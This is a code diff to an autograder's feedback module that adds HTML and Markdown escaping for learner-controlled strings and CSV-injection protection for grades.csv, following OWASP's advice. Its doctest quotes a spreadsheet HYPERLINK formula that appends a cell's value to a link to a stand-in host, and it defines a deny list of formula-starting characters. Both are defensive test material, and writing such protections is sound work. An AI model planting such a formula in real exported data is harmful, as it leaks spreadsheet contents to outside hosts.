@@ -3,8 +3,17 @@
 A feedback page shows text and images only: :func:`inert_outputs` keeps, of each
 output, its plain text and its PNG/JPEG/GIF images (checked to be images, and
 re-encoded), so no learner HTML, CSS, JavaScript, SVG or Markdown becomes active
-in the page. The grading table at the top is written by the grader, with every
-learner-derived string escaped and kept out of MathJax.
+in the page; nbconvert escapes the text of code cells and outputs. The grading
+table at the top is the one place where the grader writes Markdown: every
+learner-controlled string in it (names, exception names and messages) goes
+through :func:`escape_text`, which writes each character other than letters,
+digits and spaces as an HTML character reference, so that it is text to both
+Markdown and HTML (no heading, link, image, table, tag or line break can come
+of it), and the table is kept out of MathJax.
+
+grades.csv is written with :func:`csv_cell`: a value that a spreadsheet would
+read as a formula (it starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage
+return) is prefixed with a single quote, as OWASP recommends.
 """
 
 from __future__ import annotations
@@ -12,7 +21,7 @@ from __future__ import annotations
 import base64
 import binascii
 import csv
-import html
+import string
 from collections.abc import Iterable
 from dataclasses import astuple, dataclass, fields
 from pathlib import Path
@@ -20,7 +29,7 @@ from pathlib import Path
 from nbformat import NotebookNode
 from nbformat.v4 import new_markdown_cell, new_notebook, new_output
 
-from ._text import describe, first_line
+from ._text import describe, first_line, no_surrogates, printable
 
 #: The statuses of a row of grades.csv.
 STATUSES = ("passed", "failed", "error", "refused", "timeout", "missing", "invalid-notebook")
@@ -32,6 +41,13 @@ IMAGE_MAGIC = {
     "image/jpeg": (b"\xff\xd8\xff",),
     "image/gif": (b"GIF87a", b"GIF89a"),
 }
+#: What a cell of grades.csv must not start with (a spreadsheet would run it as a
+#: formula): OWASP's list, newlines, and the full-width forms some spreadsheets accept.
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
+#: What :func:`escape_text` leaves as it is: no Markdown or HTML syntax starts with these
+#: (a slash only means something inside a tag, which needs ``<``).
+_PLAIN = frozenset(string.ascii_letters + string.digits + " /")
+_NAMED = {"<": "&lt;", ">": "&gt;", "&": "&amp;", '"': "&quot;"}
 
 
 @dataclass(frozen=True)
@@ -48,20 +64,64 @@ class GradeRow:
     sandbox: str
 
 
+def escape_text(text: str) -> str:
+    """``text`` as inert text for a Markdown cell or an HTML page: every character but
+    letters, digits, spaces and slashes becomes a character reference.
+
+    Markdown and HTML take a character reference for the character itself, never
+    for syntax, so the result shows ``text`` exactly, and nothing of it can start a
+    heading, link, image, table, list, tag or new line, end an HTML block, or be
+    auto-linked. Characters that are not printable (control characters, lone
+    surrogates) are first written as escapes (:func:`~._text.printable`).
+
+    Examples
+    --------
+    >>> escape_text("<b>eve</b>")
+    '&lt;b&gt;eve&lt;/b&gt;'
+    >>> escape_text("## 2 / 2 points")
+    '&#35;&#35; 2 / 2 points'
+    """
+    return "".join(
+        c if c in _PLAIN else _NAMED.get(c) or f"&#{ord(c)};" for c in printable(str(text))
+    )
+
+
+def csv_cell(value) -> str:
+    """``value`` as a cell of grades.csv: printable, and never read as a formula.
+
+    Characters that are not printable are written as escapes (one row is one
+    line), and a value that starts with one of :data:`FORMULA_STARTS` gets a
+    single quote in front (OWASP's advice for CSV injection): it stays readable
+    and a spreadsheet shows it as text.
+
+    Examples
+    --------
+    >>> print(csv_cell('=HYPERLINK("https://example.invalid/?"&A1,"details")'))
+    '=HYPERLINK("https://example.invalid/?"&A1,"details")
+    >>> csv_cell("add(2, 3) should be 5")
+    'add(2, 3) should be 5'
+    """
+    text = str(value)
+    shown = printable(text)
+    if text.lstrip(" ").startswith(FORMULA_STARTS) or shown.lstrip(" ").startswith(FORMULA_STARTS):
+        return "'" + shown
+    return shown
+
+
 def format_points(points: float) -> str:
     """``2`` for 2.0, ``1.5`` for 1.5."""
     return f"{points:g}"
 
 
 def write_csv(rows: Iterable[GradeRow], path: Path) -> None:
-    """Write grades.csv (rows in the given order)."""
+    """Write grades.csv (rows in the given order), every cell through :func:`csv_cell`."""
     with open(path, "w", newline="", encoding="utf-8") as file:
         writer = csv.writer(file)
         writer.writerow([f.name for f in fields(GradeRow)])
         for row in rows:
             values = list(astuple(row))
             values[3], values[4] = format_points(row.points), format_points(row.max_points)
-            writer.writerow(values)
+            writer.writerow([csv_cell(value) for value in values])
 
 
 def summary_table(rows: list[GradeRow]) -> str:
@@ -107,15 +167,17 @@ def _short_labels(notebooks: list[str]) -> list[str]:
 def feedback_cell(learner: str, notebook: str, rows: list[GradeRow], note: str) -> NotebookNode:
     """A markdown cell with the score and each exercise's status and message.
 
-    Everything that comes from the learner's run is HTML-escaped.
+    Every string but ``note`` (the grader's own text) goes through
+    :func:`escape_text`: learner and file names, exercise names, statuses and
+    messages are shown as text, whatever they hold.
     """
     got = sum(r.points for r in rows)
     best = sum(r.max_points for r in rows)
     lines = [
         "## Grading feedback",
         "",
-        f'<p class="tex2jax_ignore"><b>{html.escape(learner)}</b>, '
-        f"<code>{html.escape(notebook)}</code>: "
+        f'<p class="tex2jax_ignore"><b>{escape_text(learner)}</b>, '
+        f"<code>{escape_text(notebook)}</code>: "
         f"<b>{format_points(got)} / {format_points(best)} points</b></p>",
         "",
         '<table class="tex2jax_ignore">',
@@ -123,9 +185,9 @@ def feedback_cell(learner: str, notebook: str, rows: list[GradeRow], note: str) 
     ]
     for row in rows:
         lines.append(
-            f"<tr><td>{html.escape(row.exercise)}</td>"
+            f"<tr><td>{escape_text(row.exercise)}</td>"
             f"<td>{format_points(row.points)} / {format_points(row.max_points)}</td>"
-            f"<td>{html.escape(row.status)}</td><td>{html.escape(row.message)}</td></tr>"
+            f"<td>{escape_text(row.status)}</td><td>{escape_text(row.message)}</td></tr>"
         )
     lines += ["</table>", "", note]
     return new_markdown_cell("\n".join(lines))
@@ -169,8 +231,8 @@ def inert_outputs(outputs: Iterable[dict]) -> list[NotebookNode]:
 
 def _text(value) -> str:
     if isinstance(value, list):
-        return "".join(str(v) for v in value)
-    return "" if value is None else str(value)
+        return no_surrogates("".join(str(v) for v in value))
+    return "" if value is None else no_surrogates(str(value))
 
 
 def _inert_data(data: dict) -> dict[str, str]:
@@ -213,7 +275,13 @@ class FeedbackWriter:
         self.exporter = HTMLExporter(template_name="lab")
 
     def write(self, nb: NotebookNode, path: Path) -> None:
-        """Write ``nb`` as HTML to ``path``; on failure, write its first cell only."""
+        """Write ``nb`` as HTML to ``path``; on failure, write its first cell only.
+
+        Raises
+        ------
+        OSError
+            If the page cannot be written (the caller reports it and goes on).
+        """
         path.parent.mkdir(parents=True, exist_ok=True)
         try:
             body, _ = self.exporter.from_notebook_node(nb)
@@ -222,8 +290,8 @@ class FeedbackWriter:
             fallback.cells.append(
                 new_markdown_cell(
                     "The notebook itself could not be rendered: "
-                    + html.escape(first_line(describe(error)))
+                    + escape_text(first_line(describe(error)))
                 )
             )
             body, _ = self.exporter.from_notebook_node(fallback)
-        path.write_text(body, encoding="utf-8")
+        path.write_text(body, encoding="utf-8", errors="backslashreplace")
